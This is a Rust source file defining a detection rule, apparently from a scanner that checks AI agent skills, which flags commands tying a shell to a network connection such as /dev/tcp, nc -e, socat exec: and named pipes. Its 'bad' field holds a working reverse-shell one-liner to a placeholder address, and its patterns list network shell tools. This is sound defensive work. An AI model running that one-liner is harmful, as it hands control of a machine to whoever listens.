//! `remote.shell`

use super::super::shell::known::{Language, interpreter};
use super::super::shell::machine::Event;
use super::{Look, Rule, Weight, argv};
use crate::model::finding::Tier;
use crate::model::text;

pub(super) static RULE: Rule = Rule {
    id: "remote.shell",
    title: "gives a shell to another machine",
    weight: Weight {
        run: Some(Tier::Block),
        fence: Some(Tier::Block),
        inline: Some(Tier::Warn),
        prose: None,
        file: None,
    },
    owasp: &["AST01"],
    what: "A shell's input and output are tied to a connection: `/dev/tcp`, `nc -e`, `socat exec:`, a named pipe before `nc`, or a program that does the same.",
    why: "Whoever is at the other end types into this machine.",
    instead: "There is no use of this in a skill that is not about attacks; say so, and let it be overridden for exactly these bytes.",
    limits: "Connections that carry data and no shell are left alone, and who waits for this machine alone.",
    bad: "```sh\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n```\n",
    alike: "```sh\ntimeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo open\nnc -z localhost 5432\nsed -i s/a/b/ x.sh\n```\n",
    look: Look::Event(|event, around| match event {
        Event::Socket(path) if any(around.text, TIED) => {
            Some(format!("ties a shell to `{}`", text::escape_short(&path.text, 80)))
        }
        Event::Call { name, argv, .. } if matches!(name.as_str(), "nc" | "ncat" | "netcat" | "socat") => {
            let given = argv.iter().any(|word| {
                let low = word.text.to_lowercase();
                low.starts_with("exec:") || low.starts_with("system:")
            });
            let option = argv.windows(2).any(|pair| {
                let short = pair[0].text.starts_with('-') && pair[0].text.ends_with(['e', 'c']);
                let name = pair[1].text.rsplit('/').next().unwrap_or_default();
                short && interpreter(name) == Some(Language::Shell)
            });
            let named = any(around.text, &["mkfifo ", "mknod "])
                && any(around.text, &["sh -i", "|/bin/sh", "| /bin/sh", "|/bin/bash", "| /bin/bash"]);
            // Who waits on this machine alone gives nothing to another one.
            let near = argv::has(argv, &["127.0.0.1", "localhost", "::1"]) && argv::short(argv, 'l');
            (!near && (given || option || named))
                .then(|| format!("`{name}` gives a shell to whoever connects"))
        }
        Event::Run { what, .. }
            if any(&what.text, &["dup2(", "pty.spawn("])
                && any(&what.text, &["socket"])
                && what.text.contains("sh") =>
        {
            Some("a program ties a shell to a connection".to_owned())
        }
        _ => None,
    }),
};

/// How a shell is written whose input or output is a connection.
const TIED: &[&str] = &["sh -i", "sh -l -i", "sh -li", "sh -il", "sh <&", "sh 0<&", "sh 0>&"];

fn any(text: &str, words: &[&str]) -> bool {
    words.iter().any(|word| text.contains(word))
}
